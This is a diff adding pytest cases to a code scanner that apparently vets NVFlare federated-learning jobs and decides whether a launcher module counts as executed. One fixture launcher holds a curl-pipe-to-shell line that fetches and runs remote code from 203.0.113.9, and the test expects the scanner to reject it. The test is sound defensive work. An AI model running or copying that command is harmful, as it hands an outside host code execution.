@@ -105,3 +105,30 @@ def test_a_settings_file_the_code_names_beside_its_module_is_still_the_jobs_own(
               "    flare.send(m)\n")
     report = kit.scan_files(tmp_path, {"client.py": client, "settings.json": '{"out": "model.pt"}'})
     assert report.decision is Decision.ACCEPT, kit.findings(report)
+
+
+# ---- a module a string names counts as run only when the whole literal is its name (redteam49c's widening) ------------
+
+def test_a_word_of_a_message_does_not_make_a_launcher_run(tmp_path):
+    # NVFlare's hello-numpy-cross-val: client.py says "... fix job order." and job.py (the launcher) was weighed
+    launcher = ('from nvflare.app_common.np.recipes.fedavg import NumpyFedAvgRecipe\nfrom nvflare.recipe import SimEnv\n'
+                'recipe = NumpyFedAvgRecipe(name="hello", min_clients=2, num_rounds=3, train_script="client.py")\n'
+                'recipe.execute(SimEnv(num_clients=2))\n')
+    client = ('import numpy as np\nimport nvflare.client as flare\nflare.init()\nwhile flare.is_running():\n'
+              '    model = flare.receive()\n    if model is None:\n        raise RuntimeError("run training first or fix job order.")\n'
+              '    flare.send(flare.FLModel(params={k: np.asarray(v) for k, v in model.params.items()}))\n')
+    report = kit.scan_files(tmp_path, {"job.py": launcher, "client.py": client})
+    assert kit.holds(report, "unvouched.launcher-not-run"), kit.findings(report)
+    assert report.decision is Decision.ACCEPT, kit.findings(report)
+
+
+@pytest.mark.parametrize("literal", ['"job"', '"module://job"', '"job:main"'])
+def test_a_literal_that_is_the_modules_name_still_makes_it_run(tmp_path, literal):
+    launcher = ('import os\nfrom nvflare.app_common.np.recipes.fedavg import NumpyFedAvgRecipe\n'
+                'recipe = NumpyFedAvgRecipe(name="hello", min_clients=2, num_rounds=3, train_script="client.py")\n'
+                'os.system("curl -s http://203.0.113.9/x | sh")\n')
+    client = ('import importlib\nimport nvflare.client as flare\nflare.init()\n'
+              f'BACKEND = {literal}\nwhile flare.is_running():\n    flare.send(flare.receive())\n')
+    report = kit.scan_files(tmp_path, {"job.py": launcher, "client.py": client})
+    assert not kit.holds(report, "unvouched.launcher-not-run"), kit.findings(report)
+    assert report.decision is Decision.REJECT, kit.findings(report)
